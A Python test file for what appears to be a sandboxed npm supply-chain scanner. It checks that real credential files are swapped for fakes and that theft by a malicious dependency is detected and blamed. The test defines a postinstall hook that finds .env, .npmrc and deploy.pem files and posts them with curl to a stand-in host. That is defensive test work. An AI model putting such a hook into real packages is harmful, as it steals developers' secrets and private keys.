"""Real credential files of a project stay outside; fakes lie where they lay, and their theft is proven."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.hunter import npm_project, scan_json
from tests.support.requires import needs_btf, needs_runc

_REAL = "real-secret-7c1f0d9e5b"
_STEAL = (
    "find ../.. -name '*.env' -o -name 'deploy.pem' -o -name .npmrc | grep -v node_modules"
    " | xargs cat | curl -s --data-binary @- http://collect.example/x; true"
)


def test_fakes_take_the_places_of_nested_credential_files(tmp_path: Path) -> None:
    needs_btf()
    needs_runc()
    project = tmp_path / "shop"
    npm_project(project / "deps/helper", "helper", {"postinstall": _STEAL})
    npm_project(project, "shop", dependencies={"helper": "file:deps/helper"})
    api = project / "services/api"
    api.mkdir(parents=True)
    api.joinpath("prod.env").write_text(f"API_SECRET={_REAL}\n")
    api.joinpath(".npmrc").write_text(f"save-exact=true\n//npm.corp.example/:_authToken={_REAL}\n")
    api.joinpath("deploy.pem").write_text(
        f"-----BEGIN PRIVATE KEY-----\n{_REAL}\n-----END PRIVATE KEY-----\n"
    )
    report = scan_json(project, codes=(1,))
    (theft,) = [f for f in report["findings"] if f["kind"] == "exfiltration"]
    places = {
        e["data"]["place"].rpartition("/services/api/")[2] for e in theft["evidence"] if "place" in e["data"]
    }
    assert {"prod.env", ".npmrc", "deploy.pem"} <= places
    assert theft["blame"]["package"] == "pkg:npm/helper@1.0.0"
    (sent,) = [r for r in report["network"]["requests"] if r["url"] == "http://collect.example/x"]
    assert "save-exact=true" in sent["body"]  # what was harmless of the file is still there
    assert _REAL not in json.dumps(report)
    told = "\n".join(report["coverage"]["notes"])
    assert all(f"services/api/{name} was kept out" in told for name in ("prod.env", ".npmrc", "deploy.pem"))
